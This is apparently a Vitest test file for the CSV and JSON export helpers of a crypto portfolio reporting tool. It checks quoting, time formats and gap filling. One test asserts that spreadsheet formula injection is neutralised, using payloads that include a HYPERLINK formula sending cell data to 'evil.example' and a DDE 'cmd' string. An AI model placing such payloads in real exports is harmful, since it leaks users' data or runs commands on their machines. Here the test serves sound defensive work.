import { describe, expect, it } from 'vitest';
import { PORTFOLIO_CSV_HEADER } from '../../src/ops/report-output.ts';
import { withGaps, type PriceReportRow } from '../../src/ops/report-prices.ts';
import { csvField, csvRecord, jsonCell, jsonRow } from '../../src/ops/report-table.ts';
import type { PriceBucket } from '../../src/db/stores/reports.ts';

describe('CSV fields (RFC 4180)', () => {
  it('quotes a field with a comma, a double quote, CR or LF, doubling its quotes; nothing else', () => {
    expect(csvField('0.30000000000000004')).toBe('0.30000000000000004');
    expect(csvField('Cetus, Inc.')).toBe('"Cetus, Inc."');
    expect(csvField('say "gm"')).toBe('"say ""gm"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\r')).toBe('"cr\r"');
    expect(csvField(' spaced ')).toBe(' spaced ');
  });

  it('writes null as an empty field, times as ISO 8601 UTC, counts and flags as text', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(new Date('2026-11-21T12:00:00+02:00'))).toBe('2026-11-21T10:00:00.000Z');
    expect(csvField(42)).toBe('42');
    expect(csvField(true)).toBe('true');
  });

  it('ends every record with CRLF', () => {
    expect(csvRecord(['a', null, '1.50', 'x,y'])).toBe('a,,1.50,"x,y"\r\n');
  });

  it('quotes a field with a semicolon or a tab too, the separators of other locales', () => {
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('a\tb')).toBe('"a\tb"');
  });

  it('neutralises text a spreadsheet would run as a formula with a leading single quote (OWASP)', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?leak="&A1,"Click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`,
    );
    expect(csvField('+SUM(1,2)')).toBe(`"'+SUM(1,2)"`);
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvField('-')).toBe("'-");
    // Only at the start: elsewhere these characters are text.
    expect(csvField('Cetus = CLMM')).toBe('Cetus = CLMM');
    // A cell a semicolon locale would split is quoted whole: no part of it starts a cell.
    expect(csvField('name;=1+1')).toBe('"name;=1+1"');
  });

  it('leaves numbers as numbers, negative ones included', () => {
    for (const number of ['-12.5', '-0.000001', '+3', '-1e-9', '-430203.82196631157475640137201471576356', '0'])
      expect(csvField(number)).toBe(number);
    expect(csvField(-3)).toBe('-3');
    expect(csvField('-1.2.3')).toBe("'-1.2.3");
  });

  it('numeric text goes through untouched, however many digits', () => {
    const long = '430203.82196631157475640137201471576356';
    expect(csvField(long)).toBe(long);
    expect(jsonCell(long)).toBe(long);
  });
});

describe('JSON cells', () => {
  it('writes numbers as strings, times as ISO text, null as null, flags as booleans', () => {
    const row = jsonRow(
      [
        { name: 'samples', value: (r: { n: number }) => r.n },
        { name: 'close', value: () => '1e-9' },
        { name: 'time', value: () => new Date(0) },
        { name: 'open', value: () => null },
        { name: 'gap', value: () => false },
      ],
      { n: 3 },
    );
    expect(row).toEqual({ samples: '3', close: '1e-9', time: '1970-01-01T00:00:00.000Z', open: null, gap: false });
  });
});

describe('the portfolio CSV header', () => {
  it('is one table: the section, then each column name once', () => {
    expect(PORTFOLIO_CSV_HEADER[0]).toBe('section');
    expect(new Set(PORTFOLIO_CSV_HEADER).size).toBe(PORTFOLIO_CSV_HEADER.length);
    for (const name of ['time', 'total_value', 'pnl', 'position_id', 'input_value', 'collection_id', 'value_usd'])
      expect(PORTFOLIO_CSV_HEADER).toContain(name);
  });
});

describe('withGaps', () => {
  const from = new Date('2026-11-21T00:00:00Z');
  const hour = 3_600_000;
  const token = { coinType: '0x2::sui::SUI', chain: 'sui', symbol: 'SUI' };
  const bucket = (hours: number, price: string): PriceBucket => ({
    time: new Date(from.getTime() + hours * hour),
    open: price,
    high: price,
    low: price,
    close: price,
    samples: 1,
  });
  async function* batches(...lists: PriceBucket[][]) {
    for (const list of lists) yield list;
  }
  async function collect(stream: AsyncGenerator<PriceReportRow[]>): Promise<PriceReportRow[][]> {
    const out: PriceReportRow[][] = [];
    for await (const rows of stream) out.push(rows);
    return out;
  }

  it('marks every bucket start without a stored bucket, before, between and after, across batches', async () => {
    const out = await collect(
      withGaps(batches([bucket(1, '2')], [bucket(3, '4')]), token, { from, intervalMs: hour }, 6),
    );
    const rows = out.flat();
    expect(rows.map((row) => [row.time.toISOString().slice(11, 13), row.gap, row.close, row.samples])).toEqual([
      ['00', true, null, 0],
      ['01', false, '2', 1],
      ['02', true, null, 0],
      ['03', false, '4', 1],
      ['04', true, null, 0],
      ['05', true, null, 0],
    ]);
    expect(rows.every((row) => row.coinType === token.coinType && row.symbol === 'SUI')).toBe(true);
  });

  it('writes a long run of gaps in bounded batches', async () => {
    const out = await collect(withGaps(batches([]), token, { from, intervalMs: 60_000 }, 2500));
    expect(out.map((rows) => rows.length)).toEqual([1000, 1000, 500]);
    expect(out.flat().every((row) => row.gap)).toBe(true);
  });
});
